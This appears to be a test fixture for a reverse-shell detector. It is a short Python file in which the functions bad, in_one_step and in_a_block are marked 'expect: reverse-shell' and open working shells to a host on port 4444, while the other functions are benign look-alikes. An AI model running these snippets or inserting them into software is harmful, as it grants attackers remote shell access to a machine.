# profile: default
"""A shell for whoever answers at an address."""

import os
import socket
import subprocess


def bad(host):
    connection = socket.socket()
    connection.connect((host, 4444))
    os.dup2(connection.fileno(), 0)  # expect: reverse-shell
    os.dup2(connection.fileno(), 1)
    subprocess.call(["/bin/sh", "-i"])


def good(host):
    connection = socket.create_connection((host, 4444))
    connection.sendall(b"status")
    return connection.recv(1024)


def into_a_file(path):
    with open(path) as file:
        os.dup2(file.fileno(), 0)
        subprocess.call(["/usr/bin/sort"])


def worker(server):
    connection, address = server.accept()
    os.dup2(connection.fileno(), 0)
    subprocess.call(["/usr/lib/worker"])
    return address


def out_of_a_dump(dump, host):
    connection = socket.create_connection((host, 5432))
    connection.close()
    with open(dump) as file:
        os.dup2(file.fileno(), 0)
        subprocess.run(["psql"])


def in_one_step(host):
    connection = socket.create_connection((host, 4444))
    os.dup2(connection.fileno(), 0)  # expect: reverse-shell
    os.execv("/bin/sh", ["sh"])


def in_a_block(host):
    with socket.socket() as connection:
        connection.connect((host, 4444))
        os.dup2(connection.fileno(), 0)  # expect: reverse-shell
        subprocess.run(["/bin/sh"])
